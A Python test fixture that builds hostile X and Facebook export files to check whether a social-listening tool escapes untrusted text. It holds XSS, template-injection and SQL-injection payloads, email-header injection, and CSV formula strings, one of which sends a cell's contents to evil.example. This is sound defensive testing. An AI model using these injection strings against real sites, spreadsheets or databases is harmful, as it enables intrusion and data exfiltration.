"""Hostile text for the end-to-end tests, and small export files that carry it.

``HOSTILE`` names thirty strings an attacker (or an unlucky account) can put in a post's text or an
account's name: markup and script that would run if a page or an email pasted them in unescaped,
template syntax that would evaluate if a renderer compiled data, SQL fragments, spreadsheet
formulas, invisible and direction-changing characters, control characters, newlines that would
start a new email header, and 10,000 emoji.

``hostile_posts`` spreads them over posts of two networks (X as a twarc2 page, Facebook as a
CrowdTangle CSV): every string is a post text, a handle, a display name, a bio and a location
somewhere, and the ten most engaged posts (the ones a report lists) together show every string
once as a text, a handle or a display name. Every text carries the words "derrame de petróleo", so
each post belongs to the topic ``derrame_petroleo``.
"""
from __future__ import annotations

import csv
import json
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

from escucha.connectors.crowdtangle import FACEBOOK_COLUMNS

# Each script-like string, if it ran, would set window.__pwned (or change document.title).
HOSTILE: dict[str, str] = {
    "script": "<script>window.__pwned='script';document.title='pwned'</script>",
    "img_onerror": "<img src=x onerror=\"window.__pwned='img'\">",
    "svg_onload": "<svg/onload=window.__pwned='svg'>",
    "javascript_url": "<a href=\"javascript:window.__pwned='href'\">clic</a> javascript:window.__pwned=1",
    "iframe_srcdoc": "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>",
    "textarea_breakout": "</textarea><script>window.__pwned='textarea'</script>",
    "title_breakout": "</title><script>document.title='pwned'</script><title>",
    "style_breakout": "</style><script>window.__pwned='style'</script><style>*{display:none}",
    "attribute_double": "\" onmouseover=\"window.__pwned='dq'\" data-x=\"",
    "attribute_single": "' autofocus onfocus='window.__pwned=\"sq\"' x='",
    "table_breakout": "</bdi></td></tr></table><script>window.__pwned='table'</script>",
    "entities": "&lt;script&gt; &amp;amp; &#60;b&#62; &quot;&#x27; &nbsp;",
    "comment_cdata": "<!-- --><![CDATA[ ]]> --!> <!--",
    "base_refresh": ("<base href=\"http://evil.example/\">"
                     "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">"),
    "jinja_expression": "{{ 7*7 }} {{ config }} ${7*7} #{7*7}",
    "jinja_statement": "{% for x in range(3) %}X{% endfor %} {# c #} {{ ''.__class__.__mro__ }}",
    "format_string": "%s %d %(x)s {0} {topic} $1 ? :start",
    "sql_drop": "'; drop table marts.fct_posts; --",
    "sql_or": "' or '1'='1",
    "sql_union": "\" union select * from internal.raw_files; /* */ --",
    "right_to_left_override": "\u202egnp.exe\u202c admin\u202e",
    "bidi_marks": "\u200e\u200f\u061c\u202a\u202b\u202d\u2066\u2067\u2068\u2069 fin",
    "zero_width": "cero\u200bancho\u200cno\u200dunión\ufeffbom\u2060wj",
    "combining": "Z\u0335\u0321a\u0336l\u0337g\u0338o\u0334 e\u0301 n\u0303",
    "emoji_sequences": "👩\u200d👩\u200d👧\u200d👦 🇵🇪 👍🏽 🏳️\u200d🌈",
    "csv_hyperlink": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"clic\")",
    "csv_command": "+cmd|' /C calc'!A0 -2+3 @SUM(1+1)",
    "newlines": "línea 1\r\nBcc: intruso@example.org\r\n\r\nlínea 3\nSubject: hola",
    "controls": "\x07bell\x08bs\x1b[31mrojo\x1b[0m\x1b]0;pwned\x07\x0b\x0c\x7f\x85\u2028\u2029fin",
    "emoji_10000": "\U0001F600" * 10_000,
}
NAMES = list(HOSTILE)
STRINGS = list(HOSTILE.values())

TOPIC = "derrame_petroleo"
KEYWORDS = "derrame de petróleo"
NETWORKS = ("x", "facebook")
SHOWN = 10                      # the posts a report lists (the overview's top posts)
TOP_ENGAGEMENT = 9_000_000      # far above the demo's most engaged post
FIRST_POST = datetime(2022, 1, 15, 15, 0)  # UTC: 10:00 in Lima, inside the demo window
LEADERS = 3                     # X accounts every hostile X post mentions
FOLLOWERS = 50_000_000          # of every hostile X account: the widest reach of the topic

# Rows that cannot land and must be quarantined, with the reason the connector gives.
BAD_TWEET_ID = "1'; drop table marts.fct_posts; --"
BAD_FACEBOOK_URL = "javascript:window.__pwned='url'"
# A post with hostile text and no keyword of any topic: it must match no topic.
CONTROL_TEXT = "' or '1'='1' -- <script>window.__pwned='control'</script> {{ 7*7 }}"
CONTROL_TWEET_ID = "1482999999999999999"


@dataclass(frozen=True)
class HostilePost:
    """One post and its author, every text field hostile."""

    network: str
    post_id: str
    author_id: str
    text: str
    handle: str
    display_name: str
    bio: str
    location: str | None  # CrowdTangle's Facebook export has no free-text location
    engagement: int
    created_at: datetime  # UTC, naive

    @property
    def post_key(self) -> str:
        return f"{self.network}:{self.post_id}"

    @property
    def author_key(self) -> str:
        return f"{self.network}:{self.author_id}"


def post_text(value: str) -> str:
    """A post's text: the hostile string, then the topic's keywords."""
    return f"{value} · {KEYWORDS}"


def hostile_posts() -> list[HostilePost]:
    """One post per hostile string per network, most engaged first. Among the first ``SHOWN``
    posts (X and Facebook alternating) every string is once a text, a handle or a display name;
    over all posts every string is a text, a handle, a display name and a bio on each network (and
    a location on X: CrowdTangle has none)."""
    n = len(STRINGS)
    posts = []
    for net_index, network in enumerate(NETWORKS):
        shift = net_index * SHOWN // 2  # Facebook's first posts show the next strings
        for i in range(n):
            rank = 2 * i + net_index
            k = (i + shift) % n

            def pick(offset: int, k: int = k) -> str:
                return STRINGS[(k + offset) % n]

            posts.append(HostilePost(
                network=network,
                post_id=str(1482700000000000000 + rank) if network == "x" else str(5129900000000000 + rank),
                author_id=str(990000 + rank) if network == "x" else str(100099000000000 + rank),
                text=post_text(pick(0)), handle=pick(SHOWN), display_name=pick(2 * SHOWN),
                bio=pick(7), location=pick(13) if network == "x" else None,
                engagement=TOP_ENGAGEMENT - 1000 * rank,
                created_at=FIRST_POST + timedelta(minutes=rank)))
    return sorted(posts, key=lambda p: -p.engagement)


# --------------------------------------------------------------------------- export files


def _tweet(post_id: str, author_id: str, text: str, created_at: datetime, likes: int,
           mentions: Sequence[HostilePost] = ()) -> dict:
    return {
        "id": post_id, "text": text, "created_at": created_at.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
        "author_id": author_id, "conversation_id": post_id, "lang": "es",
        "entities": {"mentions": [{"start": 0, "end": 1, "username": m.handle, "id": m.author_id}
                                  for m in mentions]},
        "public_metrics": {"retweet_count": 0, "reply_count": 0, "like_count": likes, "quote_count": 0,
                           "impression_count": 0},
        "edit_history_tweet_ids": [post_id],
    }


def _user(user_id: str, username: str, name: str, description: str, location: str) -> dict:
    return {
        "id": user_id, "username": username, "name": name, "description": description,
        "location": location, "created_at": "2015-03-02T10:00:00.000Z", "verified": False,
        "public_metrics": {"followers_count": FOLLOWERS, "following_count": 10, "tweet_count": 10,
                           "listed_count": 0},
    }


def write_twarc2(path: Path, posts: list[HostilePost]) -> Path:
    """The X posts as one twarc2 response page, plus a tweet whose id is an SQL fragment and a
    control tweet without any topic's keyword. Every X post mentions the ``LEADERS`` most engaged
    X accounts, so they lead the topic's influence ranking (and the reports name them)."""
    x = [p for p in posts if p.network == "x"]
    tweets = [_tweet(p.post_id, p.author_id, p.text, p.created_at, p.engagement,
                     [m for m in x[:LEADERS] if m is not p]) for p in x]
    users = [_user(p.author_id, p.handle, p.display_name, p.bio, p.location) for p in x]
    tweets.append(_tweet(BAD_TWEET_ID, x[0].author_id, post_text("sql id"), FIRST_POST, 1))
    tweets.append(_tweet(CONTROL_TWEET_ID, x[0].author_id, CONTROL_TEXT, FIRST_POST, 1))
    page = {"data": tweets, "includes": {"users": users},
            "meta": {"result_count": len(tweets)},
            "__twarc": {"url": "https://api.twitter.com/2/tweets/search/all", "version": "2.14.0",
                        "retrieved_at": "2022-01-18T00:00:00+00:00"}}
    path.write_text(json.dumps(page, ensure_ascii=False) + "\n", encoding="utf-8")
    return path


def _facebook_row(page_name: str, user_name: str, facebook_id: str, description: str, created: datetime,
                  likes: int, url: str, message: str) -> list[str]:
    """One row of a CrowdTangle Facebook export, every column of the real header present."""
    local = created - timedelta(hours=5)  # CrowdTangle writes the local time and its zone
    values = {
        "Page Name": page_name, "User Name": user_name, "Facebook Id": facebook_id, "Page Category": "PERSON",
        "Page Admin Top Country": "PE", "Page Description": description, "Page Created": "2015-03-02 10:00:00",
        "Likes at Posting": "10", "Followers at Posting": "10", "Post Created": f"{local:%Y-%m-%d %H:%M:%S} PET",
        "Post Created Date": f"{local:%Y-%m-%d}", "Post Created Time": f"{local:%H:%M:%S}", "Type": "Status",
        "Total Interactions": str(likes), "Likes": str(likes), "URL": url, "Message": message,
    }
    return [values.get(column, "0" if column in COUNT_COLUMNS else "") for column in FACEBOOK_COLUMNS]


COUNT_COLUMNS = {"Comments", "Shares", "Love", "Wow", "Haha", "Sad", "Angry", "Care"}


def write_crowdtangle(path: Path, posts: list[HostilePost]) -> Path:
    """The Facebook posts as a CrowdTangle CSV (every field quoted, newlines inside fields), plus a
    row whose URL is a javascript: URL without a post id."""
    fb = [p for p in posts if p.network == "facebook"]
    rows = [_facebook_row(p.display_name, p.handle, p.author_id, p.bio, p.created_at, p.engagement,
                          f"https://www.facebook.com/{p.author_id}/posts/{p.post_id}", p.text) for p in fb]
    rows.append(_facebook_row("x", "x", fb[0].author_id, "", FIRST_POST, 1, BAD_FACEBOOK_URL, post_text("url")))
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
        writer.writerow(FACEBOOK_COLUMNS)
        writer.writerows(rows)
    return path
